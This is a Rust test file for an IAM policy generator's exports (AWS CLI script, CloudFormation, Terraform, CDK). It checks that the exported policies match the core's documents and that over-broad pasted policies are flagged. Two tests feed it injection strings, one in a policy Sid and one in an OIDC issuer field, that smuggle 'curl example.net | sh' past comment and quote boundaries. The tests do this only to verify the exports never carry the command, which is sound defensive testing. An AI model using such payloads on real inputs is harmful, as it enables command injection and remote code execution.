//! The exports say what the core's documents say: checked by running the AWS CLI script
//! against a stub `aws`, and by resolving the CloudFormation JSON's intrinsic functions.
//! (cfn-lint, python-hcl2 and the CDK compiler check the rest in tests/oracles.)

use iam_policy_core::model::Origin;
use iam_policy_core::{Format, Request, Response, build, export};
use serde_json::{Value, json};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

fn golden_requests() -> Vec<(String, Request)> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data");
    let mut requests: Vec<(String, Request)> = fs::read_dir(&dir)
        .expect("tests/data")
        .map(|entry| entry.expect("entry").path())
        .filter(|path| path.to_string_lossy().ends_with(".request.json"))
        .map(|path| {
            let request = serde_json::from_str(&fs::read_to_string(&path).expect("readable"))
                .expect("a request");
            (
                path.file_name()
                    .expect("named")
                    .to_string_lossy()
                    .into_owned(),
                request,
            )
        })
        .collect();
    requests.sort_by(|a, b| a.0.cmp(&b.0));
    requests
}

fn policy(response: &Response, id: &str) -> Option<Value> {
    response
        .documents
        .iter()
        .find(|d| d.id.as_str() == id)
        .map(|d| serde_json::to_value(&d.policy).expect("serialises"))
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ipb-exports-{}-{name}", std::process::id()));
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("a scratch folder");
    dir
}

/// Runs the script against an `aws` that records each call and knows which roles exist.
/// Returns the calls, or the script's standard error when it exits with an error.
fn run_script(script: &str, existing: &[&str], dir: &Path) -> Result<Vec<Vec<String>>, String> {
    let log = dir.join("calls");
    let roles = dir.join("roles");
    let _ = fs::remove_file(&log);
    fs::write(
        &roles,
        existing
            .iter()
            .map(|r| format!("{r}\n"))
            .collect::<String>(),
    )
    .expect("roles file");
    let stub = dir.join("aws");
    // Records each call; get-role succeeds for roles that exist or that create-role made.
    fs::write(
        &stub,
        format!(
            r#"#!/usr/bin/env bash
for a in "$@"; do printf '%s\0' "$a"; done >> '{log}'
printf '\n' >> '{log}'
case "$2" in
  create-role) echo "$4" >> '{roles}' ;;
  get-role) grep -qx "$4" '{roles}' || exit 254; echo "arn:aws:iam::123456789012:role/$4" ;;
esac
"#,
            log = log.display(),
            roles = roles.display()
        ),
    )
    .expect("stub written");
    let status = Command::new("chmod")
        .arg("+x")
        .arg(&stub)
        .status()
        .expect("chmod");
    assert!(status.success());
    let script_path = dir.join("script.sh");
    fs::write(&script_path, script).expect("script written");
    let output = Command::new("bash")
        .arg(&script_path)
        .env(
            "PATH",
            format!(
                "{}:{}",
                dir.display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .output()
        .expect("bash runs");
    if !output.status.success() {
        return Err(String::from_utf8_lossy(&output.stderr).into_owned());
    }
    Ok(fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .map(|line| {
            line.split('\0')
                .filter(|a| !a.is_empty())
                .map(str::to_owned)
                .collect()
        })
        .collect())
}

fn argument<'a>(call: &'a [String], flag: &str) -> Option<&'a str> {
    call.iter()
        .position(|a| a == flag)
        .and_then(|i| call.get(i + 1))
        .map(String::as_str)
}

fn is_existing(response: &Response, id: &str) -> bool {
    response
        .documents
        .iter()
        .any(|d| d.id.as_str() == id && d.origin == Origin::Existing)
}

#[test]
fn the_aws_cli_script_is_valid_bash_and_hands_aws_exactly_the_core_documents() {
    for (name, request) in golden_requests() {
        let response = build(&request);
        // The EKS runner role has its own test below.
        if response.has_errors() || response.target.runner_role.is_some() {
            continue;
        }
        let script = export(&response, Format::AwsCli).text;
        let dir = scratch(&name);
        let syntax = Command::new("bash")
            .arg("-n")
            .arg("-c")
            .arg(&script)
            .output()
            .expect("bash -n");
        assert!(
            syntax.status.success(),
            "{name}: {}",
            String::from_utf8_lossy(&syntax.stderr)
        );
        let (task, execution) = (
            response.target.task_role.as_str(),
            response.target.execution_role.as_str(),
        );
        let task_exists = is_existing(&response, "task-role-trust-policy");
        let execution_exists = is_existing(&response, "execution-role-secrets-policy");
        if task_exists || execution_exists {
            // A role whose policy was pasted is never created: without it the script stops.
            let refused = run_script(&script, &[], &dir).expect_err("the script must stop");
            assert!(refused.contains("does not exist"), "{name}: {refused}");
        }
        let runs: &[&[&str]] = if task_exists || execution_exists {
            &[&[task, execution]]
        } else {
            &[&[], &[task, execution]]
        };
        for existing in runs {
            let calls =
                run_script(&script, existing, &dir).unwrap_or_else(|e| panic!("{name}: {e}"));
            let mut checked = 0;
            for call in &calls {
                let role = argument(call, "--role-name").unwrap_or_default();
                let sent = argument(call, "--policy-document")
                    .or_else(|| argument(call, "--assume-role-policy-document"));
                let Some(sent) = sent else { continue };
                let sent: Value =
                    serde_json::from_str(sent).unwrap_or_else(|e| panic!("{name}: {e}: {sent}"));
                let verb = call[1].as_str();
                assert!(
                    !(verb == "create-role"
                        && (role == task && task_exists || role == execution && execution_exists)),
                    "{name}: the script creates {role}, whose policy was pasted from it"
                );
                let expected = match (verb, role, argument(call, "--policy-name")) {
                    ("create-role" | "update-assume-role-policy", r, _) if r == task => {
                        policy(&response, "task-role-trust-policy")
                    }
                    ("create-role" | "update-assume-role-policy", r, _) if r == execution => {
                        Some(json!({
                            "Version": "2012-10-17",
                            "Statement": [{"Effect": "Allow", "Principal": {"Service": "ecs-tasks.amazonaws.com"}, "Action": "sts:AssumeRole"}]
                        }))
                    }
                    ("put-role-policy", r, Some("GetETLAgentSecretValue")) if r == execution => {
                        policy(&response, "execution-role-secrets-policy")
                    }
                    ("put-role-policy", r, Some("MatillionAgentTaskPermissions")) if r == task => {
                        policy(&response, "task-role-permissions-policy")
                    }
                    // validate-policy checks documents already compared in their own calls.
                    ("validate-policy", _, _) => continue,
                    other => panic!("{name}: unexpected call {other:?}"),
                };
                assert_eq!(Some(sent), expected, "{name}: {call:?}");
                checked += 1;
            }
            let verbs: Vec<&str> = calls.iter().map(|c| c[1].as_str()).collect();
            // Each new role is created, or has its trust policy replaced when it exists; an
            // existing one has its merged trust set only when the merge changed something.
            let trust_sets = [
                !task_exists
                    || response.documents[0]
                        .changes
                        .as_ref()
                        .is_some_and(|c| !c.is_empty()),
                !execution_exists,
            ]
            .iter()
            .filter(|set| **set)
            .count();
            let expected_verb = if existing.is_empty() {
                "create-role"
            } else {
                "update-assume-role-policy"
            };
            assert_eq!(
                verbs
                    .iter()
                    .filter(|v| **v == "create-role" || **v == "update-assume-role-policy")
                    .count(),
                trust_sets,
                "{name}: {verbs:?}"
            );
            if !task_exists && !execution_exists {
                assert_eq!(
                    verbs.iter().filter(|v| **v == expected_verb).count(),
                    2,
                    "{name}: {verbs:?}"
                );
                assert!(checked >= 3, "{name}: only {checked} documents were sent");
            }
            let attach = calls
                .iter()
                .find(|c| c[1] == "attach-role-policy")
                .expect("the managed policy is attached");
            assert_eq!(
                argument(attach, "--policy-arn"),
                Some(
                    format!(
                        "arn:{}:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy",
                        response.target.partition
                    )
                    .as_str()
                )
            );
        }
        let _ = fs::remove_dir_all(&dir);
    }
}

/// Where the oracle "deploys" a template: a region and account that are not the request's,
/// so a template that leans on `AWS::Region` / `AWS::AccountId` for the agent's ARNs
/// resolves to ARNs the core's documents do not grant.
const DEPLOYED_REGION: &str = "zz-elsewhere-9";
const DEPLOYED_ACCOUNT: &str = "000000000009";

/// Resolves `Fn::Sub` and `Ref` as CloudFormation would for a stack deployed in
/// [`DEPLOYED_REGION`] and [`DEPLOYED_ACCOUNT`], every parameter at its default.
fn resolve(value: &Value, template: &Value, response: &Response) -> Value {
    let target = &response.target;
    let lookup = |name: &str| -> String {
        match name {
            "AWS::Partition" => target.partition.to_owned(),
            "AWS::Region" => DEPLOYED_REGION.to_owned(),
            "AWS::AccountId" => DEPLOYED_ACCOUNT.to_owned(),
            "AWS::URLSuffix" => target.dns_suffix.to_owned(),
            parameter => template["Parameters"][parameter]["Default"]
                .as_str()
                .unwrap_or_else(|| {
                    panic!(
                        "{parameter} is neither a pseudo parameter nor a parameter with a default"
                    )
                })
                .to_owned(),
        }
    };
    match value {
        Value::Object(map) if map.len() == 1 && map.contains_key("Fn::Sub") => {
            let text = map["Fn::Sub"].as_str().expect("a string");
            let mut out = String::new();
            let mut rest = text;
            while let Some(start) = rest.find("${") {
                out.push_str(&rest[..start]);
                let after = &rest[start + 2..];
                if let Some(literal) = after.strip_prefix('!') {
                    out.push_str("${");
                    rest = literal;
                    continue;
                }
                let end = after.find('}').expect("a closed ${}");
                out.push_str(&lookup(&after[..end]));
                rest = &after[end + 1..];
            }
            out.push_str(rest);
            Value::String(out)
        }
        Value::Object(map) if map.len() == 1 && map.get("Ref").is_some_and(Value::is_string) => {
            Value::String(lookup(map["Ref"].as_str().unwrap_or_default()))
        }
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(k, v)| (k.clone(), resolve(v, template, response)))
                .collect(),
        ),
        Value::Array(items) => Value::Array(
            items
                .iter()
                .map(|v| resolve(v, template, response))
                .collect(),
        ),
        other => other.clone(),
    }
}

#[test]
fn cloudformation_json_deployed_in_another_region_and_account_grants_the_core_documents() {
    for (name, request) in golden_requests() {
        let response = build(&request);
        if response.has_errors() || response.target.runner_role.is_some() {
            continue;
        }
        let template: Value =
            serde_json::from_str(&export(&response, Format::CloudFormationJson).text)
                .unwrap_or_else(|e| panic!("{name}: the template is not JSON: {e}"));
        let resources = &template["Resources"];
        let resolved = |value: &Value| resolve(value, &template, &response);
        let parameter = |name: &str| template["Parameters"][name]["Default"].clone();
        // A role whose policy was pasted exists: the template only adds inline policies to
        // it, by name, and leaves its trust policy to the AWS CLI script or the console.
        if is_existing(&response, "task-role-trust-policy") {
            assert!(
                resources.get("AgentTaskRole").is_none(),
                "{name}: creates the existing task role"
            );
            assert_eq!(
                parameter("TaskRoleName"),
                json!(response.target.task_role),
                "{name}"
            );
            let policy_resource = &resources["AgentTaskRolePolicy"]["Properties"];
            assert_eq!(
                policy_resource["PolicyDocument"]
                    .is_object()
                    .then(|| resolved(&policy_resource["PolicyDocument"])),
                policy(&response, "task-role-permissions-policy"),
                "{name}"
            );
        } else {
            let task = &resources["AgentTaskRole"]["Properties"];
            assert_eq!(
                Some(resolved(&task["AssumeRolePolicyDocument"])),
                policy(&response, "task-role-trust-policy"),
                "{name}"
            );
            assert_eq!(
                task["Policies"][0]["PolicyDocument"]
                    .is_object()
                    .then(|| resolved(&task["Policies"][0]["PolicyDocument"])),
                policy(&response, "task-role-permissions-policy"),
                "{name}"
            );
        }
        if is_existing(&response, "execution-role-secrets-policy") {
            assert!(
                resources.get("AgentExecutionRole").is_none(),
                "{name}: creates the existing execution role"
            );
            let policy_resource = &resources["AgentExecutionRolePolicy"]["Properties"];
            assert_eq!(
                resolved(&policy_resource["RoleName"]),
                json!(response.target.execution_role),
                "{name}"
            );
            assert_eq!(
                Some(resolved(&policy_resource["PolicyDocument"])),
                policy(&response, "execution-role-secrets-policy"),
                "{name}"
            );
        } else {
            let execution = &resources["AgentExecutionRole"]["Properties"];
            assert_eq!(
                execution["Policies"][0]["PolicyDocument"]
                    .is_object()
                    .then(|| resolved(&execution["Policies"][0]["PolicyDocument"])),
                policy(&response, "execution-role-secrets-policy"),
                "{name}"
            );
            assert_eq!(
                resolved(&execution["ManagedPolicyArns"][0]),
                json!(format!(
                    "arn:{}:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy",
                    response.target.partition
                ))
            );
        }
    }
}

#[test]
fn every_format_exports_every_golden_request_and_says_when_it_is_not_ready() {
    for (name, request) in golden_requests() {
        let response = build(&request);
        for format in Format::ALL {
            let exported = export(&response, format);
            assert!(
                !exported.text.trim().is_empty(),
                "{name} as {}",
                format.id()
            );
            let commented = !matches!(format, Format::Json | Format::CloudFormationJson);
            if commented {
                assert_eq!(
                    exported.text.contains("NOT READY"),
                    response.has_errors(),
                    "{name} as {}",
                    format.id()
                );
            }
        }
    }
}

#[test]
fn format_names_round_trip_and_unknown_ones_are_explained() {
    for format in Format::ALL {
        assert_eq!(format.id().parse::<Format>(), Ok(format));
    }
    let error = "yaml".parse::<Format>().expect_err("not a format");
    assert!(
        error
            .to_string()
            .contains("use one of json, aws-cli, cloudformation"),
        "{error}"
    );
}

/// The second security review: a pasted trust policy trusting `"AWS": "*"`, or a secrets
/// policy allowing `*` on `*`, was merged or passed as "already allows everything the agent
/// needs" and applied by the exports without a word. Each is now said on its document and
/// in every export that has comments, on one line whatever the pasted Sid holds: a line
/// break or a line separator in it would end the comment and make the rest a command.
#[test]
fn pasted_grants_of_everything_are_said_in_every_commented_export_on_one_line_each() {
    let request = Request {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        existing_trust_policy: r#"{"Version":"2012-10-17","Statement":[{"Sid":"Anyone\ncurl example.net | sh\u2028x\u0085y","Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#.into(),
        existing_secrets_policy: r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#.into(),
        ..Request::default()
    };
    let response = build(&request);
    for (code, document) in [
        ("pasted-trust-too-broad", "task-role-trust-policy"),
        ("pasted-policy-too-broad", "execution-role-secrets-policy"),
    ] {
        let problem = response
            .problems
            .iter()
            .find(|p| serde_json::to_value(p.code).expect("code") == code)
            .unwrap_or_else(|| panic!("{code} missing: {:?}", response.problems));
        assert_eq!(problem.document.map(|d| d.as_str()), Some(document));
    }
    for (format, comment) in [
        (Format::AwsCli, "#"),
        (Format::CloudFormation, "#"),
        (Format::Terraform, "#"),
        (Format::Cdk, "//"),
    ] {
        let text = export(&response, format).text;
        let notes: Vec<&str> = text
            .split(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}'])
            .filter(|line| line.contains("GRANTS MORE"))
            .collect();
        assert_eq!(notes.len(), 2, "{format:?}: {notes:?}");
        assert!(
            notes
                .iter()
                .all(|line| line.starts_with(&format!("{comment} GRANTS MORE: "))),
            "{format:?}: {notes:?}"
        );
        assert!(notes[0].contains(r"Anyone\u{000a}curl example.net | sh\u{2028}x\u{0085}y"));

        assert!(
            !text
                .lines()
                .any(|line| line.trim_start().starts_with("curl")),
            "{format:?} planted a command"
        );
    }
    // The JSON template has no comments: it says the same in its Metadata.
    let template: Value =
        serde_json::from_str(&export(&response, Format::CloudFormationJson).text).expect("JSON");
    let said = template["Metadata"]["GrantsMoreThanNamed"]
        .as_array()
        .expect("the grants, said");
    assert_eq!(said.len(), 2);
    assert!(
        said[0]
            .as_str()
            .is_some_and(|s| s.contains("trusts any principal"))
    );
}

/// On EKS: the script creates the runner role with exactly the core's trust policy (the
/// issuer and provider ARN spliced in from their variables' defaults) and puts exactly its
/// permissions policy; a role whose trust policy was pasted is never created.
#[test]
fn the_eks_aws_cli_script_hands_aws_exactly_the_runner_documents() {
    let mut checked = 0;
    for (name, request) in golden_requests() {
        let response = build(&request);
        let Some(role) = response.target.runner_role.clone() else {
            continue;
        };
        if response.has_errors() {
            continue;
        }
        let script = export(&response, Format::AwsCli).text;
        let dir = scratch(&name);
        let exists = is_existing(&response, "runner-role-trust-policy");
        if exists {
            let refused = run_script(&script, &[], &dir).expect_err("the script must stop");
            assert!(refused.contains("does not exist"), "{name}: {refused}");
        }
        let runs: &[&[&str]] = if exists {
            &[&[role.as_str()]]
        } else {
            &[&[], &[role.as_str()]]
        };
        for existing in runs {
            let calls =
                run_script(&script, existing, &dir).unwrap_or_else(|e| panic!("{name}: {e}"));
            let mut sent = Vec::new();
            for call in &calls {
                let document = argument(call, "--policy-document")
                    .or_else(|| argument(call, "--assume-role-policy-document"));
                let Some(document) = document else { continue };
                assert_eq!(argument(call, "--role-name"), Some(role.as_str()), "{name}");
                let document: Value =
                    serde_json::from_str(document).unwrap_or_else(|e| panic!("{name}: {e}"));
                let expected = match (call[1].as_str(), argument(call, "--policy-name")) {
                    ("create-role" | "update-assume-role-policy", _) => {
                        policy(&response, "runner-role-trust-policy")
                    }
                    ("put-role-policy", Some("MatillionRunnerPermissions")) => {
                        policy(&response, "runner-role-permissions-policy")
                    }
                    other => panic!("{name}: unexpected call {other:?}"),
                };
                assert_eq!(Some(document), expected, "{name}: {call:?}");
                sent.push(call[1].clone());
            }
            assert!(
                !sent.iter().any(|v| v == "create-role") || !exists,
                "{name}: created the existing role"
            );
            assert!(
                sent.iter().any(|v| v == "put-role-policy"),
                "{name}: {sent:?}"
            );
            let expected_trust = if exists {
                response.documents[0]
                    .changes
                    .as_ref()
                    .is_some_and(|c| !c.is_empty())
            } else {
                true
            };
            assert_eq!(
                sent.iter()
                    .any(|v| v == "create-role" || v == "update-assume-role-policy"),
                expected_trust,
                "{name}: {sent:?}"
            );
        }
        checked += 1;
        let _ = fs::remove_dir_all(&dir);
    }
    assert!(checked >= 6, "only {checked} EKS requests");
}

/// On EKS: the CloudFormation JSON, deployed in another region and account with every
/// parameter at its default, creates the runner role with the core's trust policy (the IRSA
/// one a `Fn::Sub` string of JSON: its keys are made of the issuer) and its permissions.
#[test]
fn the_eks_cloudformation_template_deployed_elsewhere_grants_the_runner_documents() {
    let mut checked = 0;
    for (name, request) in golden_requests() {
        let response = build(&request);
        if response.has_errors() || response.target.runner_role.is_none() {
            continue;
        }
        let template: Value =
            serde_json::from_str(&export(&response, Format::CloudFormationJson).text)
                .unwrap_or_else(|e| panic!("{name}: the template is not JSON: {e}"));
        let resolved = |value: &Value| match resolve(value, &template, &response) {
            Value::String(text) => {
                serde_json::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}: {text}"))
            }
            other => other,
        };
        let resources = &template["Resources"];
        if is_existing(&response, "runner-role-trust-policy") {
            assert!(
                resources.get("RunnerRole").is_none(),
                "{name}: creates the existing role"
            );
            let properties = &resources["RunnerRolePolicy"]["Properties"];
            assert_eq!(
                resolve(&properties["RoleName"], &template, &response),
                json!(response.target.runner_role),
                "{name}"
            );
            assert_eq!(
                Some(resolved(&properties["PolicyDocument"])),
                policy(&response, "runner-role-permissions-policy"),
                "{name}"
            );
        } else {
            let role = &resources["RunnerRole"]["Properties"];
            assert_eq!(
                Some(resolved(&role["AssumeRolePolicyDocument"])),
                policy(&response, "runner-role-trust-policy"),
                "{name}"
            );
            assert_eq!(
                Some(resolved(&role["Policies"][0]["PolicyDocument"])),
                policy(&response, "runner-role-permissions-policy"),
                "{name}"
            );
            if response.target.issuer.is_some() {
                assert_eq!(
                    template["Parameters"]["OidcIssuer"]["Default"],
                    json!(response.target.issuer),
                    "{name}"
                );
            }
        }
        checked += 1;
    }
    assert!(checked >= 6, "only {checked} EKS requests");
}

/// A hostile issuer can never reach an export: the reader refuses it, and the exports then
/// say NOT READY and carry only placeholders where the issuer goes.
#[test]
fn no_text_typed_for_the_issuer_reaches_an_eks_export_unless_it_is_an_issuer() {
    let request: Request = serde_json::from_value(json!({
        "platform": "eks", "account": "123456789012", "region": "eu-west-1",
        "secrets": ["matillion/agent"],
        "oidcIssuer": "oidc.eks.eu-west-1.amazonaws.com/id/ABC'\"; curl example.net | sh; echo '",
    }))
    .expect("a request");
    let response = build(&request);
    assert!(response.has_errors());
    for format in Format::ALL {
        let text = export(&response, format).text;
        assert!(!text.contains("curl"), "{format:?}");
    }
}
